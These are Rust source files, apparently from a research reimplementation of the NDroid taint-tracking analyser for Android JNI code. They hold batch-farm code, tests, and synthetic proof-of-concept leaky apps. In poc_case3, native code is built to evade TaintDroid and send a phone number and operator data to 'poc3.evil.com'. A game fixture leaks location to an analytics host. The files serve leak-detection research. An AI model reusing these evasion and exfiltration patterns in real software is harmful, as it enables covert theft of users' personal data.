    b.asm.mov_imm(Reg::R4, 0).unwrap();
    b.asm.mov_imm(Reg::R5, 16).unwrap();
    let frame = b.asm.here_label();
    b.asm.add_imm(Reg::R4, Reg::R4, 7).unwrap();
    b.asm.subs_imm(Reg::R5, Reg::R5, 1).unwrap();
    b.asm.b_cond(Cond::Ne, frame);
    b.asm.ldr_const(Reg::R0, path);
    b.asm.ldr_const(Reg::R1, mode_w);
    b.asm.call_abs(libc_addr("fopen"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, fmt);
    b.asm.mov(Reg::R2, Reg::R4);
    b.asm.call_abs(libc_addr("fprintf"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("fclose"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));

    b.finish_pure_native(main).unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn leaky_native_game_caught_by_ndroid_only() {
        let sys = native_game_leaky().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::LOCATION_LAST));
        assert_eq!(leaks[0].dest, "analytics.gamey.example");
        assert!(leaks[0].data.starts_with("score=96 loc="));

        let sys = native_game_leaky().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty(), "no Java sink ever fires");
        assert_eq!(sys.kernel.network_log.len(), 1);
    }

    #[test]
    fn benign_native_game_is_clean() {
        let sys = native_game_benign().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(
            sys.kernel.fs.get("/data/data/puzzle/save.dat").map(Vec::as_slice),
            Some(b"best=112".as_slice())
        );
    }

    #[test]
    fn pure_native_app_runs_without_any_java_frames() {
        let sys = native_game_leaky().run(Mode::NDroid).unwrap();
        // Java only executed as JNI up-calls from native (depth returns
        // to zero); no Java entry point exists.
        assert_eq!(sys.dvm.stack.depth(), 0);
        assert!(sys.native_insns() > 100);
    }
}
