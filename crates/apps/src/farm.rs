//! Front-end for the batch-analysis farm ([`ndroid_core::batch`]) and
//! the resident service ([`ndroid_core::service`]): packages the
//! workloads this crate knows how to build — gallery apps, Table-I
//! case apps, synthetic corpus samples, monkey-driver sessions — as
//! [`JobSource`]s ([`Gallery`], [`Cases`], [`CorpusShard`],
//! [`Adversarial`], [`Monkey`]).
//!
//! Jobs construct their `App` (and its `NDroidSystem`) *inside* the
//! closure, on whatever worker thread picks them up; only the
//! [`SystemConfig`] and a builder `fn` (or a [`FlowSpec`]) cross the
//! thread boundary. That keeps `App` itself free of any `Send`
//! obligation and guarantees per-worker system isolation.
//!
//! Feed a source to the offline farm with
//! [`ndroid_core::batch::jobs_from`] + [`ndroid_core::batch::run_batch`],
//! or stream it through a live service with
//! [`ndroid_core::AnalysisService::submit_source`]. (The legacy
//! free-function entry points — `gallery_jobs` & co. — survived one
//! release as `#[deprecated]` wrappers and are gone.)

use crate::builder::App;
use crate::driver::{drive, gated_leak_app, GATED_ENTRIES};
use crate::synth::{build, FlowSpec, Hop, Sink, Source};
use ndroid_core::batch::{AnalysisJob, JobSource};
use ndroid_core::SystemConfig;
use ndroid_corpus::{AppRecord, CorpusConfig, JniType};

/// Wraps one app constructor as a job: build, run to completion under
/// `config`, snapshot the [`ndroid_core::RunReport`]. The config rides
/// the job as inspectable metadata ([`AnalysisJob::config`]) for queue
/// observability and warm-image keying.
pub fn app_job(
    label: impl Into<String>,
    config: SystemConfig,
    builder: fn() -> App,
) -> AnalysisJob {
    AnalysisJob::builder(label).config(config.clone()).run(move || {
        builder()
            .run_with(config)
            .map(|sys| sys.report())
            .map_err(|e| e.to_string())
    })
}

/// The three case-study gallery apps (QQPhoneBook, the Thumb spy, the
/// crypto hider), in pinned order.
#[derive(Debug, Clone, Copy, Default)]
pub struct Gallery;

impl JobSource for Gallery {
    fn name(&self) -> &'static str {
        "gallery"
    }

    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        let apps: [(&str, fn() -> App); 3] = [
            ("gallery/qq_phonebook", crate::qq_phonebook::qq_phonebook),
            ("gallery/thumb_spy", crate::thumb_spy::thumb_spy),
            ("gallery/crypto_hider", crate::crypto_hider::crypto_hider),
        ];
        apps.into_iter()
            .map(|(label, f)| app_job(label, config.clone(), f))
            .collect()
    }
}

/// The Table-I information-flow case apps, in pinned order.
#[derive(Debug, Clone, Copy, Default)]
pub struct Cases;

impl JobSource for Cases {
    fn name(&self) -> &'static str {
        "cases"
    }

    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        let apps: [(&str, fn() -> App); 6] = [
            ("case/case1", crate::cases::case1),
            ("case/case1'", crate::cases::case1_prime),
            ("case/case1'-cb", crate::cases::case1_prime_callback),
            ("case/case2", crate::cases::case2),
            ("case/case3", crate::cases::case3),
            ("case/case4", crate::cases::case4),
        ];
        apps.into_iter()
            .map(|(label, f)| app_job(label, config.clone(), f))
            .collect()
    }
}

fn record_hash(record: &AppRecord) -> u64 {
    // FNV-1a over the fields that survive corpus regeneration, so a
    // record always maps to the same flow.
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    let mut eat = |bytes: &[u8]| {
        for b in bytes {
            h ^= *b as u64;
            h = h.wrapping_mul(0x0000_0100_0000_01B3);
        }
    };
    eat(&record.id.to_le_bytes());
    for lib in &record.native_libs {
        eat(lib.as_bytes());
    }
    for class in &record.native_decl_classes {
        eat(class.as_bytes());
    }
    h
}

/// Deterministically maps a corpus [`AppRecord`] to the [`FlowSpec`]
/// its synthetic stand-in app realizes. Pure function of the record,
/// so the ground truth (`spec.leak`) is known without running anything.
pub fn spec_for_record(record: &AppRecord) -> FlowSpec {
    const SOURCES: [Source; 4] =
        [Source::Imei, Source::Contact, Source::Sms, Source::Location];
    const HOPS: [Hop; 5] =
        [Hop::Strcpy, Hop::Memcpy, Hop::XorLoop, Hop::Sprintf, Hop::Strdup];
    const SINKS: [Sink; 3] = [Sink::NativeSend, Sink::NativeFile, Sink::JavaSend];
    let h = record_hash(record);
    let n_hops = 1 + (h >> 2) as usize % 3;
    let hops = (0..n_hops)
        .map(|i| HOPS[(h >> (4 + 3 * i)) as usize % HOPS.len()])
        .collect();
    FlowSpec {
        source: SOURCES[h as usize % SOURCES.len()],
        hops,
        sink: SINKS[(h >> 16) as usize % SINKS.len()],
        leak: (h >> 24) % 4 != 0, // ~75% of samples actually leak
        // Deliberately mutation-free: the pinned corpus/batch goldens
        // predate mutations. Mutated specs live in the adversarial
        // corpus ([`crate::adversarial`]).
        mutations: vec![],
    }
}

/// A scaled-down corpus whose §III proportions survive the shrink:
/// half the apps are Type I, a quarter of those ship no library, one
/// Type-III straggler. `seed` feeds the generator's PRNG.
pub fn shard_corpus_config(n: usize, seed: u64) -> CorpusConfig {
    let n = n.max(4) as u32;
    CorpusConfig {
        total: 4 * n,
        type1: 2 * n,
        type2: (n / 4).max(1),
        type2_loadable: (n / 8).max(1),
        type3: 1,
        type1_without_libs: n / 2,
        admob_fraction: 0.481,
        seed,
    }
}

/// A pinned corpus shard: the first `n` Type-I (library-shipping)
/// samples of the corpus generated from `seed`, each record mapped
/// through [`spec_for_record`] to a synthetic JNI flow app with known
/// ground truth, built and run on the worker.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CorpusShard {
    /// Number of samples in the shard.
    pub n: usize,
    /// Corpus generator seed.
    pub seed: u64,
}

impl JobSource for CorpusShard {
    fn name(&self) -> &'static str {
        "corpus_shard"
    }

    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        let records = ndroid_corpus::generate(&shard_corpus_config(self.n, self.seed));
        records
            .into_iter()
            .filter(|r| r.jni_type() == JniType::TypeI && !r.native_libs.is_empty())
            .take(self.n)
            .map(|record| {
                let spec = spec_for_record(&record);
                let label = format!("corpus/app_{:05}", record.id);
                let config = config.clone();
                AnalysisJob::builder(label).config(config.clone()).run(move || {
                    build(&spec)
                        .run_with(config)
                        .map(|sys| sys.report())
                        .map_err(|e| e.to_string())
                })
            })
            .collect()
    }
}

/// The adversarial corpus ([`crate::adversarial::corpus`]), in pinned
/// corpus order. Score the resulting [`ndroid_core::BatchReport`] with
/// [`ndroid_core::score::score_batch`] against
/// [`crate::adversarial::expected_leak`].
#[derive(Debug, Clone, Copy, Default)]
pub struct Adversarial;

impl JobSource for Adversarial {
    fn name(&self) -> &'static str {
        "adversarial"
    }

    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        crate::adversarial::corpus()
            .into_iter()
            .map(|case| {
                let config = config.clone();
                AnalysisJob::builder(case.label).config(config.clone()).run(move || {
                    case.build()
                        .run_with(config)
                        .map(|sys| sys.report())
                        .map_err(|e| e.to_string())
                })
            })
            .collect()
    }
}

/// Monkey-driver sessions over the gated-leak app: session `i` drives
/// `steps` pseudo-random events from seed `base_seed + i`. A session
/// whose invocations throw is reported as a failed job.
///
/// With `fork: true`, sessions fan out from a **copy-on-write
/// snapshot** instead of re-booting: each worker thread boots and
/// warms the app once per distinct [`SystemConfig`], captures an
/// [`ndroid_core::Snapshot`], and every session on that worker forks
/// from the image (O(page-table), pages copied lazily on first
/// write). Behaviorally identical to `fork: false` — the same `steps`
/// events from the same seed produce an equal
/// [`ndroid_core::RunReport`]; the `exp_snapshot` gate and the
/// determinism tests pin that equality. Because the warm image is
/// thread-local, resident service workers
/// ([`ndroid_core::AnalysisService`]) keep it hot across submissions.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Monkey {
    /// Number of driver sessions.
    pub sessions: usize,
    /// Pseudo-random events per session.
    pub steps: usize,
    /// Session `i` seeds its PRNG with `base_seed + i`.
    pub base_seed: u64,
    /// Fork each session from a per-worker warm CoW snapshot instead
    /// of booting fresh.
    pub fork: bool,
}

impl Monkey {
    /// Fresh-boot sessions (the legacy `monkey_jobs` shape).
    pub fn fresh(sessions: usize, steps: usize, base_seed: u64) -> Monkey {
        Monkey { sessions, steps, base_seed, fork: false }
    }

    /// Snapshot-forked sessions (the legacy `monkey_fork_jobs` shape).
    pub fn forked(sessions: usize, steps: usize, base_seed: u64) -> Monkey {
        Monkey { sessions, steps, base_seed, fork: true }
    }
}

impl JobSource for Monkey {
    fn name(&self) -> &'static str {
        "monkey"
    }

    fn jobs(&self, config: &SystemConfig) -> Vec<AnalysisJob> {
        use ndroid_core::Snapshot;
        use std::cell::RefCell;

        // One warm image per worker thread per configuration. Snapshots
        // hold `Rc`s and so cannot cross threads; jobs only carry the
        // (Send) config and rebuild the image on whichever worker runs
        // them first.
        thread_local! {
            static WARM: RefCell<Option<(SystemConfig, Snapshot)>> =
                const { RefCell::new(None) };
        }

        let fork = self.fork;
        let steps = self.steps;
        (0..self.sessions)
            .map(|i| {
                let seed = self.base_seed + i as u64;
                let config = config.clone();
                AnalysisJob::builder(format!("monkey/session_{i:03}"))
                    .config(config.clone())
                    .run(move || {
                        let mut sys = if fork {
                            WARM.with(|warm| {
                                let mut warm = warm.borrow_mut();
                                match warm.as_ref() {
                                    Some((c, snap)) if *c == config => snap.fork(),
                                    _ => {
                                        let booted =
                                            gated_leak_app().launch_with(config.clone());
                                        let snap = booted.snapshot();
                                        let sys = snap.fork();
                                        *warm = Some((config.clone(), snap));
                                        sys
                                    }
                                }
                            })
                        } else {
                            gated_leak_app().launch_with(config)
                        };
                        let report =
                            drive(&mut sys, "Lapp/Sync;", &GATED_ENTRIES, steps, seed);
                        if report.errors > 0 {
                            return Err(format!("{} invocations failed", report.errors));
                        }
                        Ok(report.report)
                    })
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::batch::{jobs_from, run_batch, BatchConfig};
    use ndroid_core::Mode;

    #[test]
    fn gallery_jobs_all_leak() {
        let jobs = Gallery.jobs(&SystemConfig::ndroid().quiet(true));
        let report = run_batch(jobs, BatchConfig::new(2));
        assert_eq!(report.completed(), 3);
        assert_eq!(report.leaking(), 3, "{}", report.render());
    }

    #[test]
    fn corpus_shard_matches_ground_truth() {
        let cfg = SystemConfig::ndroid().quiet(true);
        let n = 8;
        let jobs = CorpusShard { n, seed: 0xD514 }.jobs(&cfg);
        assert_eq!(jobs.len(), n);

        // Recompute the ground truth the same way the job list did.
        let records = ndroid_corpus::generate(&shard_corpus_config(n, 0xD514));
        let truth: Vec<bool> = records
            .iter()
            .filter(|r| r.jni_type() == JniType::TypeI && !r.native_libs.is_empty())
            .take(n)
            .map(|r| spec_for_record(r).expected_leak())
            .collect();

        let report = run_batch(jobs, BatchConfig::new(2));
        assert_eq!(report.completed(), n);
        for (result, expect_leak) in report.results.iter().zip(truth) {
            let run = result.outcome.report().unwrap();
            assert_eq!(
                run.leaked(),
                expect_leak,
                "{}: NDroid verdict disagrees with spec ground truth",
                result.label
            );
        }
    }

    #[test]
    fn adversarial_jobs_score_perfectly() {
        let jobs = Adversarial.jobs(&SystemConfig::ndroid().quiet(true));
        let report = run_batch(jobs, BatchConfig::new(4));
        let score =
            ndroid_core::score::score_batch(&report, crate::adversarial::expected_leak);
        assert!(score.perfect(), "{}", score.render());
        assert_eq!(score.aggregate.recall(), 1.0);
        assert_eq!(score.aggregate.precision(), 1.0);
        assert_eq!(score.aggregate.total(), crate::adversarial::corpus().len());
    }

    #[test]
    fn forked_monkey_sessions_equal_fresh_boots() {
        // The fan-out determinism gate in miniature: the same sessions
        // driven from per-worker CoW forks and from fresh boots must
        // produce byte-identical batch reports.
        let cfg = SystemConfig::ndroid().quiet(true);
        let fresh = run_batch(Monkey::fresh(4, 30, 11).jobs(&cfg), BatchConfig::new(2));
        let forked = run_batch(Monkey::forked(4, 30, 11).jobs(&cfg), BatchConfig::new(2));
        assert_eq!(forked, fresh);
        assert_eq!(forked.render(), fresh.render());
    }

    #[test]
    fn monkey_sessions_complete() {
        let jobs = Monkey::fresh(3, 40, 7).jobs(&SystemConfig::ndroid().quiet(true));
        let report = run_batch(jobs, BatchConfig::new(2));
        assert_eq!(report.completed(), 3);
        assert_eq!(report.results[0].label, "monkey/session_000");
        // Every completed session reports through the unified RunReport.
        for r in &report.results {
            let run = r.outcome.report().unwrap();
            assert_eq!(run.mode, Mode::NDroid);
        }
    }

    #[test]
    fn sources_compose() {
        let cfg = SystemConfig::ndroid().quiet(true);
        // jobs_from concatenates sources in order, labels intact.
        let jobs = jobs_from(&[&Gallery, &Cases], &cfg);
        assert_eq!(jobs.len(), 9);
        assert_eq!(jobs[0].label, "gallery/qq_phonebook");
        assert_eq!(jobs[3].label, "case/case1");
        // Every job carries its config as metadata now.
        assert!(jobs.iter().all(|j| j.config.as_ref() == Some(&cfg)));
    }
}
