//! The proof-of-concept app for Case 3 (Fig. 9).
//!
//! Java gathers device information (`Line1Number`, `NetworkOperator`,
//! …) and hands it to the native `evadeTaintDroid`. The native code
//! wraps it in a **new** Java string (`NewStringUTF`, step 1) and
//! invokes the Java method `nativeCallback` through `CallVoidMethodA`
//! (step 2 → `dvmCallMethodA` → `dvmInterpret`), which sends it out.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;

/// Builds the Case-3 PoC.
pub fn poc_case3() -> App {
    let mut b = AppBuilder::new(
        "PoC-case3",
        "Fig. 9: evadeTaintDroid -> NewStringUTF -> CallVoidMethodA(nativeCallback)",
    );
    let c = b.class("Lcom/ndroid/demos/Demos;");
    let cls_str = b.data_cstr("Lcom/ndroid/demos/Demos;");
    let cb_str = b.data_cstr("nativeCallback");
    let jvalue_buf = b.data_buffer(16); // jvalue[] for CallVoidMethodA

    // void evadeTaintDroid(String info) — virtual: r0 = this, r1 = info.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0); // this
    b.asm.mov(Reg::R0, Reg::R1); // info jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    // Step 1: wrap the (tainted) chars in a fresh String.
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.mov(Reg::R5, Reg::R0); // new jstring (indirect ref)
    // Resolve nativeCallback.
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.ldr_const(Reg::R1, cb_str);
    b.asm.call_abs(dvm_addr("GetMethodID"));
    b.asm.mov(Reg::R6, Reg::R0); // jmethodID
    // jvalue[0] = the new string.
    b.asm.ldr_const(Reg::R0, jvalue_buf);
    b.asm.str(Reg::R5, Reg::R0, 0);
    // Step 2: CallVoidMethodA(this, mid, jvalues)
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.mov(Reg::R1, Reg::R6);
    b.asm.ldr_const(Reg::R2, jvalue_buf);
    b.asm.call_abs(dvm_addr("CallVoidMethodA"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let evade = b.native_method(c, "evadeTaintDroid", "VL", false, entry);

    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("poc3.evil.com");
    // void nativeCallback(String s) — virtual, shorty VL, ins 2, access
    // flag 0x1, matching Fig. 9 exactly.
    b.method(
        c,
        MethodDef::new(
            "nativeCallback",
            "VL",
            MethodKind::Bytecode(vec![
                // v(this)=reg 3, v(s)=reg 4 for registers_size 5 (Fig. 9
                // logs registerSize 5, insSize 2).
                DexInsn::ConstString { dst: 0, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![0, 4],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .virtual_method()
        .with_registers(5),
    );

    let line1 = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getLine1Number")
        .unwrap();
    let netop = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getNetworkOperator")
        .unwrap();
    let concat = b
        .program
        .find_method_by_name("Ljava/lang/String;", "concat")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::NewInstance { dst: 0, class: c },
                // info = Line1Number ++ NetworkOperator (multi-bit taint).
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: line1,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: netop,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 2 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: concat,
                    args: vec![1, 2],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Virtual,
                    method: evade,
                    args: vec![0, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    let mut app = b.finish("Lcom/ndroid/demos/Demos;", "main").unwrap();
    app.lib_name = "libdemos.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn taintdroid_misses_the_callback_leak() {
        let sys = poc_case3().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        // The sink still fired with the device info.
        assert!(sys
            .all_sink_events()
            .iter()
            .any(|e| e.data.contains("15555215554")));
    }

    #[test]
    fn ndroid_catches_with_combined_taint() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::PHONE_NUMBER));
        assert!(leaks[0].taint.contains(Taint::IMSI));
        assert_eq!(leaks[0].dest, "poc3.evil.com");
        assert!(leaks[0].data.contains("15555215554"), "Line1Number");
        assert!(leaks[0].data.contains("310260"), "NetworkOperator");
    }

    #[test]
    fn trace_matches_fig9_structure() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(log.contains("evadeTaintDroid"));
        assert!(log.contains("NewStringUTF Begin"));
        assert!(log.contains("CallVoidMethodA Begin"));
        assert!(log.contains("dvmCallMethod Begin"));
        assert!(log.contains("dvmInterpret Begin"));
        assert!(log.contains("Method Name: nativeCallback"));
        assert!(log.contains("Method Shorty: VL"));
        assert!(log.contains("Method registerSize: 5"));
        assert!(log.contains("curFrame@0x44bf"));
    }

    #[test]
    fn multilevel_chain_fires_for_the_callback() {
        let sys = poc_case3().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        assert!(
            stats.chains_activated >= 1,
            "CallVoidMethodA chain activated from native code"
        );
        assert!(stats.deep_hooks >= 2, "dvmCallMethodA and dvmInterpret hooked");
    }
}
