#![warn(missing_docs)]

//! # ndroid-apps
//!
//! The application workloads of the NDroid evaluation (§IV and §VI):
//!
//! * [`cases`] — one app per information-flow scenario of Table I /
//!   Fig. 3 (cases 1, 1′, 2, 3, 4), each combining Dalvik bytecode with
//!   genuine assembled ARM native code.
//! * [`qq_phonebook`] — the QQPhoneBook 3.5 flow of Fig. 6 (Case 1′).
//! * [`ephone`] — the ePhone 3.3 flow of Fig. 7 (Case 2).
//! * [`poc_case2`] / [`poc_case3`] — the two proof-of-concept apps of
//!   Figs. 8 and 9.
//! * [`benign`] — apps that use JNI heavily but leak nothing (false
//!   positive checks).
//! * [`survey`] — the eight manually-driven apps of §VI (three deliver
//!   contacts/SMS to native code; one, ePhone, leaks).

pub mod adversarial;
pub mod benign;
pub mod builder;
pub mod cases;
pub mod crypto_hider;
pub mod driver;
pub mod farm;
pub mod dyndex;
pub mod ephone;
pub mod poc_case2;
pub mod poc_case3;
pub mod pure_native;
pub mod qq_phonebook;
pub mod survey;
pub mod synth;
pub mod testutil;
pub mod thumb_spy;

pub use builder::{App, AppBuilder};

/// Every leak-scenario app, with its case label and the taint its leak
/// should carry.
pub fn all_case_apps() -> Vec<(&'static str, App, ndroid_dvm::Taint)> {
    use ndroid_dvm::Taint;
    vec![
        ("case1", cases::case1(), Taint::IMEI),
        ("case1'", cases::case1_prime(), Taint::IMEI),
        ("case1'-cb", cases::case1_prime_callback(), Taint::IMEI),
        ("case2", cases::case2(), Taint::CONTACTS),
        ("case3", cases::case3(), Taint::IMEI),
        ("case4", cases::case4(), Taint::SMS),
    ]
}
