//! Resident-service determinism: a service's `drain()` report is
//! byte-identical to the offline `run_batch` merge over the same jobs
//! in submission order — at any worker count, with provenance
//! fingerprints included, and regardless of how many threads raced the
//! submissions. Plus the deadline contract: budget exhaustion
//! classifies as `Deadline` (never `Crashed`) in both modes, and a
//! deadlined job never corrupts the slot it recycles.

use std::time::Duration;

use ndroid_apps::farm::{Adversarial, CorpusShard, Gallery, Monkey};
use ndroid_core::batch::{
    jobs_from, run_batch, AnalysisJob, BatchConfig, JobOutcome, JobSource, Lane,
};
use ndroid_core::{AnalysisService, ProvenanceLevel, ServiceConfig, SystemConfig};

/// The canonical mixed job list: gallery (with provenance recording),
/// a corpus shard, monkey sessions, and the adversarial corpus.
fn job_mix() -> Vec<AnalysisJob> {
    let config = SystemConfig::ndroid()
        .quiet(true)
        .provenance(ProvenanceLevel::Full);
    jobs_from(
        &[
            &Gallery,
            &CorpusShard { n: 6, seed: 0xD514 },
            &Monkey::forked(3, 20, 0x5EED),
            &Adversarial,
        ],
        &config,
    )
}

/// `drain()` reproduces the offline merge byte for byte at 1, 2, and 8
/// service workers — fields (provenance summaries included) and
/// rendering.
#[test]
fn drain_is_byte_identical_to_run_batch_at_any_worker_count() {
    let offline = run_batch(job_mix(), BatchConfig::new(1));
    for workers in [1usize, 2, 8] {
        let service = AnalysisService::start(ServiceConfig::new(workers).capacity(64));
        for job in job_mix() {
            service.submit(job).unwrap();
        }
        let drained = service.shutdown();
        assert_eq!(drained, offline, "service({workers} workers) vs offline");
        assert_eq!(
            drained.render(),
            offline.render(),
            "render bytes diverge at {workers} workers"
        );
    }
    // The provenance fingerprints really are pinned by the equality:
    // every gallery job carries a summary and a leak path.
    let summaries: Vec<_> = offline
        .results
        .iter()
        .take(3)
        .map(|r| {
            r.outcome
                .report()
                .and_then(|rep| rep.provenance)
                .expect("gallery job at Full level carries a summary")
        })
        .collect();
    assert_eq!(summaries.len(), 3);
    for s in &summaries {
        assert!(s.leak_paths > 0);
    }
}

/// Two threads race their submissions through one service; the drained
/// report matches `run_batch` over the same jobs **in observed
/// submission (ticket) order** — interleaving changes which seq a job
/// gets, never how its result merges.
#[test]
fn interleaved_two_thread_submission_is_deterministic() {
    let service = AnalysisService::start(ServiceConfig::new(2).capacity(64));

    // Split the mix into halves by index parity; each thread submits
    // one half and records which submission seq each job received.
    let jobs: Vec<AnalysisJob> = job_mix();
    let total = jobs.len();
    let (mut even, mut odd) = (Vec::new(), Vec::new());
    for (i, job) in jobs.into_iter().enumerate() {
        if i % 2 == 0 {
            even.push((i, job));
        } else {
            odd.push((i, job));
        }
    }
    let mut observed: Vec<(u64, usize)> = std::thread::scope(|s| {
        let handles = [even, odd].map(|half| {
            let service = &service;
            s.spawn(move || {
                half.into_iter()
                    .map(|(i, job)| (service.submit(job).unwrap().seq, i))
                    .collect::<Vec<(u64, usize)>>()
            })
        });
        handles.into_iter().flat_map(|h| h.join().unwrap()).collect()
    });
    let drained = service.shutdown();

    // Rebuild the same jobs, ordered by the seq each one actually got.
    observed.sort_by_key(|(seq, _)| *seq);
    assert_eq!(observed.len(), total);
    let mut fresh: Vec<Option<AnalysisJob>> = job_mix().into_iter().map(Some).collect();
    let reordered: Vec<AnalysisJob> = observed
        .iter()
        .map(|(_, i)| fresh[*i].take().unwrap())
        .collect();
    let offline = run_batch(reordered, BatchConfig::new(1));

    assert_eq!(drained, offline);
    assert_eq!(drained.render(), offline.render());
}

/// A job that exhausts its guest instruction budget classifies as
/// `Deadline` — not `Crashed`, not `Failed` — in both modes, and the
/// slot it recycles serves the next job unharmed.
#[test]
fn budget_exhaustion_is_deadline_and_slot_survives() {
    let starved = SystemConfig::ndroid().quiet(true).budget(5);
    let healthy = SystemConfig::ndroid().quiet(true);

    // Capacity 1: the budget-capped job and the healthy job reuse the
    // single slot back to back.
    let service = AnalysisService::start(ServiceConfig::new(1).capacity(1));
    let mk = |cfg: &SystemConfig, label: &str| {
        let cfg = cfg.clone();
        AnalysisJob::builder(label).config(cfg.clone()).run(move || {
            ndroid_apps::qq_phonebook::qq_phonebook()
                .run_with(cfg)
                .map(|sys| sys.report())
                .map_err(|e| e.to_string())
        })
    };
    service.submit(mk(&starved, "starved")).unwrap();
    service.submit(mk(&healthy, "healthy")).unwrap();
    let drained = service.shutdown();

    assert!(
        matches!(
            &drained.results[0].outcome,
            JobOutcome::Deadline(m) if m.contains("exceeded instruction budget")
        ),
        "budget exhaustion must classify as Deadline, got {:?}",
        drained.results[0].outcome
    );
    let healthy_run = drained.results[1]
        .outcome
        .report()
        .expect("healthy job completes in the recycled slot");
    assert!(healthy_run.leaked(), "recycled slot ran the app faithfully");
    assert_eq!(drained.crashed(), 0);
    assert_eq!(drained.deadlined(), 1);

    // Offline mode classifies the identical jobs identically, so the
    // byte-identity contract holds for budget-capped lists too.
    let offline = run_batch(
        vec![mk(&starved, "starved"), mk(&healthy, "healthy")],
        BatchConfig::new(2),
    );
    assert_eq!(offline, drained);
    assert_eq!(offline.render(), drained.render());
}

/// A wall-clock deadline that has already expired preempts the job
/// between dequeue and execution: the closure never runs and the
/// outcome is `Deadline` (service-only semantics — offline `run_batch`
/// ignores wall-clock deadlines by design).
#[test]
fn expired_wall_clock_deadline_preempts_without_running() {
    let service = AnalysisService::start(ServiceConfig::new(1).capacity(4));
    let cfg = SystemConfig::ndroid().quiet(true);
    service
        .submit(
            AnalysisJob::builder("doomed")
                .lane(Lane::Interactive)
                .deadline(Duration::ZERO)
                .run(|| panic!("a preempted job must never execute")),
        )
        .unwrap();
    for job in Gallery.jobs(&cfg) {
        service.submit(job).unwrap();
    }
    let drained = service.shutdown();
    assert_eq!(drained.results.len(), 4);
    assert!(matches!(
        &drained.results[0].outcome,
        JobOutcome::Deadline(m) if m.contains("wall-clock deadline expired")
    ));
    assert_eq!(drained.crashed(), 0, "{}", drained.render());
    assert_eq!(drained.completed(), 3);
}

/// Streaming consumption: results arrive through `recv_result` while
/// workers run, every ticket is answered exactly once, and a fully
/// streamed service drains to an empty report (nothing left to merge).
#[test]
fn streaming_results_cover_every_ticket() {
    let service = AnalysisService::start(ServiceConfig::new(2).capacity(16));
    let cfg = SystemConfig::ndroid().quiet(true);
    let tickets = service
        .submit_source(&CorpusShard { n: 6, seed: 0xD514 }, &cfg, Lane::Bulk)
        .unwrap();
    assert_eq!(tickets.len(), 6);
    let mut seen: Vec<u64> = (0..tickets.len())
        .map(|_| {
            let r = service.recv_result().expect("a result per ticket");
            assert_eq!(r.lane, Lane::Bulk);
            assert!(r.outcome.report().is_some());
            r.seq
        })
        .collect();
    seen.sort_unstable();
    let mut expected: Vec<u64> = tickets.iter().map(|t| t.seq).collect();
    expected.sort_unstable();
    assert_eq!(seen, expected);
    let report = service.shutdown();
    assert!(report.results.is_empty(), "everything was streamed already");
}
