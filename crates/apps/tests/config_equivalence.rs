//! API-redesign equivalence: the construction surface is
//! [`SystemConfig`] + `NDroidSystem::from_config` (the deprecated
//! `quiet()` / `use_reference_engine()` shims are gone). Every knob
//! must be a pure function of the config value: same config, same
//! [`RunReport`], and report-excluded knobs (verbosity) must not leak
//! into it.

use ndroid_apps::{crypto_hider, qq_phonebook, thumb_spy, App};
